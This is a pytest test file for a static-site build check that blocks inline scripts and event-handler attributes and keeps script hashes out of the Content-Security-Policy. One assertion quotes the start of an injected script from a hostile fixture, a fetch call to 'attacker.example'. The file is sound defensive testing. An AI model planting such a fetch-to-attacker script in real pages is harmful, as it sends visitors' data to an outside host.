"""No inline code outside the data lab: the build stops on an inline script or an event-handler attribute in
a built page, naming the page and the fix, and never allows one by adding its hash to the policy
(macros/csp.py). Checked in process on small built-site folders; one real build in test_build.py."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from macros import csp
from macros.errors import ContentError
from tests.helpers import ROOT

INJECTED = ROOT / "tests" / "fixtures" / "hostile" / "injected-page.html"
CLEAN = '<!doctype html><html><head><script src="assets/js/head.js"></script></head><body><p>Hi</p></body></html>\n'


def make_site(tmp_path: Path, pages: dict[str, str]) -> Path:
    """A built-site folder holding the given pages."""
    site = tmp_path / "site"
    for name, html in pages.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(html, encoding="utf-8")
    return site


def test_every_inline_script_and_event_handler_of_a_page_is_found_with_its_line() -> None:
    found = csp.page_inline_code(INJECTED.read_text(encoding="utf-8"), "modules/x/index.html")
    assert [(item.line, item.what.split(" (")[0]) for item in found] == [
        (6, "inline <script>"),
        (10, "event-handler attribute onerror= on <img>"),
        (11, "event-handler attribute onload= on <svg>"),
        (12, "inline <script type=module>"),
    ]
    assert str(found[0]).startswith('modules/x/index.html → line 6: inline <script> (fetch("https://attacker.example/')


@pytest.mark.parametrize("html", [
    '<script src="a.js"></script>', '<script type="application/json">{"a": "<b onclick=x>"}</script>',
    '<script type="application/ld+json">{}</script>', "<p>Say onclick= or <code>&lt;a onclick=x&gt;</code>.</p>",
    '<meta name="description" content="A "quoted" title on A4">',  # a stray word "on" is no event handler
])
def test_files_json_data_and_text_are_not_inline_code(html: str) -> None:
    assert csp.page_inline_code(html, "p.html") == []


@pytest.mark.parametrize("html", ['<script type="text/javascript; charset=utf-8">x()</script>', "<SCRIPT>x()</SCRIPT>",
                                  "<script>", '<a href="#" ONCLICK="x()">a</a>', '<body onpageshow="x()">'])
def test_every_form_of_executable_inline_code_is_found(html: str) -> None:
    assert len(csp.page_inline_code(html, "p.html")) == 1


def test_headers_are_refused_for_a_site_with_inline_code_naming_the_page_and_the_fix(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"index.html": CLEAN})
    (site / "modules" / "x").mkdir(parents=True)
    shutil.copy(INJECTED, site / "modules" / "x" / "index.html")
    with pytest.raises(ContentError) as caught:
        csp.write_headers(site)
    message = str(caught.value)
    assert "Inline code on 1 page(s); the site ships none outside lab/:" in message
    assert "modules/x/index.html → line 6: inline <script>" in message
    assert "modules/x/index.html → line 10: event-handler attribute onerror= on <img>" in message
    assert "move the script into a file under overrides/assets/js/" in message and "addEventListener" in message
    assert not (site / "_headers").exists()


def test_the_strict_policy_never_lists_a_script_hash(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"index.html": CLEAN, "lab/index.html": "<script>jupyter()</script>",
                                "lab/tree/index.html": '<div onclick="x()"></div>'})
    csp.write_headers(site)  # the lab's own pages run under the lab's policy and are not checked
    headers = (site / "_headers").read_text(encoding="utf-8")
    assert "sha256-" not in headers and "'unsafe-inline'" not in headers.split("/lab/*")[0]
    assert f"  Content-Security-Policy: {csp.policy()}" in headers
    assert "sha256" not in csp.policy() and "'unsafe-inline'" not in csp.policy()


def test_the_command_line_check_fails_on_inline_code(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"index.html": INJECTED.read_text(encoding="utf-8")})
    result = subprocess.run([sys.executable, "-m", "macros.csp", str(site)], cwd=ROOT, capture_output=True, text=True)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "index.html → line 6: inline <script>" in result.stderr and "sha256" not in result.stdout


def test_a_page_that_passed_is_read_again_once_its_text_changes(tmp_path: Path) -> None:
    from macros.clean_pages import CleanPages

    def remembered() -> CleanPages:  # a new build: what passed is read back from the cache folder
        return CleanPages("inline-code", [Path(csp.__file__)], folder=tmp_path / "cache")

    site = make_site(tmp_path, {"index.html": CLEAN, "modules/x/index.html": CLEAN.replace("Hi", "Hello")})
    assert csp.inline_scripts(site, remembered()) == {}
    assert remembered().has_passed(CLEAN)
    shutil.copy(INJECTED, site / "modules" / "x" / "index.html")
    assert [str(item).split(" (")[0] for item in csp.inline_scripts(site, remembered())["modules/x/index.html"]] == [
        "modules/x/index.html → line 6: inline <script>", "modules/x/index.html → line 10: event-handler attribute "
        "onerror= on <img>", "modules/x/index.html → line 11: event-handler attribute onload= on <svg>",
        "modules/x/index.html → line 12: inline <script type=module>"]
    assert not remembered().has_passed(INJECTED.read_text(encoding="utf-8"))  # a problem is never remembered
